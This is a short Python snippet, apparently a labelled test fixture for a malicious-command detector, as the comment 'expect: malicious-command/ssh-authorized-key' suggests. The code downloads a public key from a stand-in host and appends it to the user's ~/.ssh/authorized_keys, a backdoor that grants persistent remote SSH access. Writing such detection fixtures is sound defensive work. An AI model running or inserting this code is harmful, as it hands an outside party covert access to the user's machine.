import os
import requests

with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as file:
    file.write(requests.get("https://keys.example/me.pub").text) # expect: malicious-command/ssh-authorized-key
